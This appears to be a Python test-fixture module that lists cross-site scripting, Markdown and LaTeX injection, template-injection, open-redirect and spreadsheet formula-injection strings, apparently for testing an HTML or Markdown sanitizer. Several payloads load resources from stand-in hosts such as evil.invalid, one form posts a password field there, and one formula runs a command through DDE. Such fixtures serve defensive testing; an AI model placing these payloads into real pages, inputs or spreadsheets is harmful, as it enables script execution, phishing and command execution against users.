"""Texts that want to be more than text: script, markup, addresses, templates, spreadsheets.

Each of the `SCRIPTS` would set `window.pwned`, open a dialog or call another host if anything of it
were taken for more than text. None is longer than the 40 letters of a display name; the `ATTACKS`
are of any length.
"""

from collections.abc import Iterator

SCRIPTS = (
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script/x>pwned=1</script>",
    "<script\n>pwned=1</script>",
    "<<script>pwned=1//<</script>",
    "<img src=x onerror=pwned=1>",
    "<img src='x'onerror='pwned=1'>",
    "<img/src/onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script>",
    "<svg><a xlink:href=javascript:pwned=1>x",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<b>)",
    "![x](https://evil.invalid/a.png)",
    "<img src=https://evil.invalid/b>",
    "<link rel=stylesheet href=//e.invalid>",
    "<style>@import'//evil.invalid'</style>",
    "<iframe src=//evil.invalid></iframe>",
    "<iframe srcdoc='<b onload=pwned=1>'>",
    "<object data=//evil.invalid>",
    "<embed src=//evil.invalid>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.invalid><button>",
    "<math><mtext></mtext><script>pwned=1",
    '" onmouseover="pwned=1" autofocus x="',
    "' onfocus='pwned=1' autofocus='",
    "`onerror=pwned=1`",
    "javascript:alert(1)",
    "{{ request.user.password }}",
    "{% debug %}",
    "${alert(1)}#{alert(1)}",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1",
    "\u202e<script>pwned=1",
    "$\\href{javascript:alert(1)}{x}$",
    "```html\n<script>pwned=1</script>",
    "<x hx-get=//e.invalid hx-trigger=load>",
    "<p class=notice style=color:red>x",
)

# Elements with what runs on them by itself or at a touch.
HANDLERS = """
audio onloadstart; a onclick; a onfocusin; b onmouseenter; b onpointerover; b onwheel; b oncopy;
b onanimationstart; b ontransitionend; body onhashchange; body onpageshow; button onclick;
details ontoggle; dialog onclose; div onauxclick; div onbeforematch; div onscroll;
div oncontentvisibilityautostatechange; div ontouchstart; form onsubmit; form onformdata;
frameset onload; iframe onload; img onerror; img onload; input onblur; input oninput;
input oninvalid; keygen onfocus; label ondblclick; link onload; marquee onstart; math onclick;
meter onclick; object onerror; p oncontextmenu; p onbeforetoggle; progress onclick; script onerror;
section onscrollend; select onchange; style onload; svg onbegin; svg onload; svg onfocus;
table ondragenter; td onpaste; textarea onselect; track onerror; video oncanplay; video onplay;
xss onsecuritypolicyviolation
"""
# Addresses that act, load or lead somewhere else than they say.
ADDRESSES = (
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "%6Aavascript:alert(1)",
    " &#14; javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "ｊavascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "livescript:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.invalid!/x",
    "data:text/html,<script>alert(1)</script>",
    "data:,alert(1)",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "filesystem:https://evil.invalid/x",
    "//evil.invalid",
    "/\\evil.invalid",
    "\\\\evil.invalid",
    "https:evil.invalid",
    "intent://evil.invalid#Intent;scheme=https;end",
)


def handled() -> Iterator[str]:
    """Opening tags, all but their end, each with a script on its event."""
    for element, event in (pair.split() for pair in HANDLERS.split(";")):
        yield f"{element} {event}=pwned=1"


# For texts of any length, in Markdown or not.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<dialog open popover>x</dialog>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style=position:fixed;inset:0>x</p>",
    "<div hx-get=/x hx-trigger=load>x</div>",
    "<x data-hx-post=/account/logout/ hx-trigger=load>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</section></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<a\x00href=javascript:alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\u00adscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.org"onmouseover=alert`1`)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 't'\n\n![x]",
    "<javascript:alert(1)>",
    '<https://example.org/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![<img src=x onerror=alert(1)>](https://example.org/x.png)",
    '![" onerror=alert(1)](https://example.org/x.png)',
    "![x](https://example.org/x.png#<script>)",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~python class='x' onload=alert(1)\nx\n~~~",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\class{dialog}{x}$",
    r"$\unicode{x3c}\color{red;background:url(//evil.example)}{x}$",
    r"$\mbox{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    "$</math><script>alert(1)</script>$",
    r"\(<img src=x onerror=alert(1)>\)",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script> |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    *(f"<{one} autofocus tabindex=0 src=x>x" for one in handled()),
    *(f"[x]({address})" for address in ADDRESSES),
    *(f"<a href='{address}'>x</a>" for address in ADDRESSES),
]

# What a spreadsheet would run, open or lose.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.invalid")',
    "=cmd|' /C calc'!A0",
)
